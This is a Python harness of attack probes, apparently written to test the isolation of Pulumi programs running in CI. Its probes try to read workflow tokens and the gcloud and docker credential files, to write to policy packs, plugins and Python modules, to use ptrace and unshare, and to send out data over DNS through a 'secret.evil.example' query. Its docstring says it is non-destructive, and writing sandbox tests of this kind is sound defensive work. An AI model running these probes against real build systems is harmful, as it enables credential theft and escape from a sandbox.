"""A hostile program: it tries all it can think of, and tells as JSON what it got.

Runs alone (`python attacks.py TARGETS`, where TARGETS is JSON: what the test has planted) and as a part of a
Pulumi program, so it imports nothing but the standard library. Each attack returns what it got, or raises. None of
them does harm where it succeeds: files are opened for writing and left as they are, processes are asked and
not ended.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Targets = Mapping[str, Any]
_libc = ctypes.CDLL(None, use_errno=True)
_WAIT = 2.0


def _text(path: str) -> str:
    with Path(path).open(errors="replace") as file:
        return file.read(10_000)


def _writable(path: str) -> str:
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return f"could write {path}"


def _makes_files(folder: str) -> str:
    path = Path(folder) / f"planted-by-{os.getpid()}"
    path.touch(exist_ok=False)
    path.unlink()
    return f"could make files in {folder}"


def own_environment(targets: Targets) -> str:
    """The token of the workflow, out of its own environment."""
    return os.environ[targets["variable"]]


def environment_of_others(targets: Targets) -> str:
    """The token, out of the environment of any other process."""
    own = str(os.getpid())
    for path in Path("/proc").glob("[0-9]*/environ"):
        if path.parent.name == own:
            continue
        try:
            if targets["token"] in _text(str(path)):
                return str(path)
        except OSError:
            continue
    raise LookupError("in no process")


def command_line_of_others(targets: Targets) -> str:
    """The command line of a process outside."""
    return _text(f"/proc/{targets['victim']}/cmdline")


def files_of_others(targets: Targets) -> str:
    """The file tree, through the root of a process outside."""
    return str(list(Path(f"/proc/{targets['victim']}/root/etc").iterdir()))


def google_credentials(targets: Targets) -> str:
    """What `gcloud auth application-default login` leaves."""
    return _text(f"{targets['home']}/.config/gcloud/application_default_credentials.json")


def docker_credentials(targets: Targets) -> str:
    """What `docker login` leaves."""
    return _text(f"{targets['home']}/.docker/config.json")


def token_of_the_checkout(targets: Targets) -> str:
    """What a checkout action leaves in the git folder of the head."""
    text = _text(f"{targets['head']}/.git/config")
    if targets["token"] not in text:
        raise LookupError("not in it")
    return text


def passwords_of_the_machine(targets: Targets) -> str:
    """Who has an account here."""
    return _text("/etc/passwd")[:40]


def connect_to_a_listener(targets: Targets) -> str:
    """A server on this machine, as the engine and its plugins are."""
    with socket.create_connection(("127.0.0.1", targets["port"]), _WAIT) as connection:
        return connection.recv(100).decode()


def ask_a_name_server(targets: Targets) -> str:
    """A datagram to a name server, which is how secrets leave where nothing else may."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.settimeout(_WAIT)
        own.sendto(b"secret.evil.example", ("127.0.0.1", targets["name_server"]))
        return own.recv(100).decode()


def connect_to_a_socket_file(targets: Targets) -> str:
    """A socket in the file tree, as Docker's and the name services' are."""
    with socket.socket(socket.AF_UNIX) as own:
        own.settimeout(_WAIT)
        own.connect(targets["socket_file"])
        return own.recv(100).decode()


def connect_to_an_abstract_socket(targets: Targets) -> str:
    """A socket without a file, as a user's session bus may be."""
    with socket.socket(socket.AF_UNIX) as own:
        own.settimeout(_WAIT)
        own.connect("\0" + targets["abstract"])
        return own.recv(100).decode()


def talk_to_the_kernel(targets: Targets) -> str:
    """A kind of socket that is neither of the internet nor of this machine."""
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close()
    return "has a netlink socket"


def write_the_checkout(targets: Targets) -> str:
    """A file of the base."""
    return _writable(targets["base_file"])


def write_the_head(targets: Targets) -> str:
    """A file of the head, which is read again after the program."""
    return _writable(f"{targets['head']}/Pulumi.yaml")


def write_the_policies(targets: Targets) -> str:
    """The policy pack that judges this very program."""
    return _writable(targets["pack_file"])


def write_the_plugins(targets: Targets) -> str:
    """A launcher that the engine starts."""
    return _writable(targets["plugin_file"])


def write_the_environment(targets: Targets) -> str:
    """A module of the environment, for the next run."""
    return _writable(targets["environment_file"])


def write_the_python(targets: Targets) -> str:
    """A module of Python itself."""
    return _writable(os.__file__)


def write_temporary_files(targets: Targets) -> str:
    """The folder for temporary files that others use too."""
    return _makes_files(targets["temporary"])


def write_the_home(targets: Targets) -> str:
    """Where a shell reads what to run at the next login."""
    return _makes_files(targets["home"])


def signal_others(targets: Targets) -> str:
    """Ending the wrapper would be enough to hide what was found."""
    os.kill(targets["victim"], 0)
    return f"could signal {targets['victim']}"


def trace(targets: Targets) -> str:
    """ptrace, by which a process is taken over."""
    return _in_a_child(lambda: _libc.ptrace(0, 0, None, None))


def new_user_namespace(targets: Targets) -> str:
    """All capabilities in a namespace of its own: where most holes of the kernel begin."""
    return _in_a_child(lambda: _libc.unshare(0x10000000))


def leave_a_daemon(targets: Targets) -> str:
    """A process that outlives the program."""
    code = "import signal; print(flush=True); signal.pause()"
    subprocess.Popen(
        [sys.executable, "-S", "-c", code, targets["mark"]],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    ).stdout.readline()  # type: ignore[union-attr]
    return "left one"


def _in_a_child(call: Callable[[], int]) -> str:
    child = os.fork()
    if child == 0:
        os._exit(0 if call() == 0 else min(ctypes.get_errno(), 100) or 100)
    _, status = os.waitpid(child, 0)
    code = os.waitstatus_to_exitcode(status)
    if code:
        raise OSError(code, os.strerror(code))
    return "could"


ATTACKS: tuple[Callable[[Targets], str], ...] = (
    own_environment,
    environment_of_others,
    command_line_of_others,
    files_of_others,
    google_credentials,
    docker_credentials,
    token_of_the_checkout,
    passwords_of_the_machine,
    connect_to_a_listener,
    ask_a_name_server,
    connect_to_a_socket_file,
    connect_to_an_abstract_socket,
    talk_to_the_kernel,
    write_the_checkout,
    write_the_head,
    write_the_policies,
    write_the_plugins,
    write_the_environment,
    write_the_python,
    write_temporary_files,
    write_the_home,
    signal_others,
    trace,
    new_user_namespace,
    leave_a_daemon,
)


def everything(targets: Targets) -> dict[str, str | None]:
    """attack -> what it got; None where it got nothing."""
    found: dict[str, str | None] = {}
    for attack in ATTACKS:
        try:
            found[attack.__name__] = attack(targets)
        except Exception as error:  # noqa: BLE001 - whatever stops an attack
            found[attack.__name__] = None
            print(f"{attack.__name__}: {type(error).__name__}: {error}", file=sys.stderr)
    return found


if __name__ == "__main__":
    print(json.dumps(everything(json.loads(sys.argv[1]))))
